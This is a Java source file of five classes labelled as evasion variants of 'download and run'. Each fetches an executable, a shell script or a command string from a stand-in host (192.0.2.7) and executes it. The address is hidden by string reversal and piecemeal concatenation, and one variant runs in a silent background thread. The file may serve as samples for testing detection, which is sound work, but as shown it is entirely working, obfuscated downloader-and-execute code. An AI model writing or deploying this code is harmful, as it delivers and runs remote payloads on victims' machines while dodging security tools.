import java.io.*;
import java.net.*;
import java.net.http.*;
import java.nio.file.*;
import java.util.*;

/** Download and run, rewritten five ways. */
class EvasionReversed {
    static void go() throws Exception {
        String address = new StringBuilder("exe.a/7.2.0.291//:ptth").reverse().toString();
        File file = File.createTempFile("a", ".exe");
        try (FileOutputStream out = new FileOutputStream(file)) {
            new URL(address).openStream().transferTo(out);
        }
        Runtime.getRuntime().exec(file.getPath());
    }
}

class EvasionClient {
    static void go() throws Exception {
        HttpClient client = HttpClient.newHttpClient();
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://" + "192.0.2.7" + "/a.sh")).build();
        Path file = Paths.get("/var/tmp/a.sh");
        byte[] body = client.send(request, HttpResponse.BodyHandlers.ofByteArray()).body();
        Files.write(file, body);
        new ProcessBuilder(Arrays.asList("sh", file.toString())).start();
    }
}

class EvasionThread {
    private String where = "http://192.0.2.7/a.exe";

    void go() {
        new Thread(() -> {
            try (InputStream in = new URL(where).openStream()) {
                Path to = Paths.get(System.getProperty("user.home")).resolve("a.exe");
                Files.copy(in, to, StandardCopyOption.REPLACE_EXISTING);
                List<String> command = new ArrayList<>();
                command.add(to.toString());
                ProcessBuilder builder = new ProcessBuilder();
                builder.command(command);
                builder.start();
            } catch (IOException ignored) {
            }
        }).start();
    }
}

class EvasionScript {
    static void go() throws Exception {
        Scanner scanner = new Scanner(new URL("http://192.0.2.7/order").openStream()).useDelimiter("x");
        Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", scanner.next()});
    }
}

class EvasionLetters {
    static void go() throws Exception {
        StringBuilder address = new StringBuilder();
        address.append("ht").append('t').append("p://192.0.").append(2).append(".7/a.exe");
        InputStream in = new URL(address.toString()).openStream();
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        byte[] piece = new byte[512];
        for (int n; (n = in.read(piece)) > 0; ) {
            all.write(piece, 0, n);
        }
        FileOutputStream out = new FileOutputStream("a.exe");
        out.write(all.toByteArray());
        out.close();
        Runtime.getRuntime().exec("a.exe");
    }
}
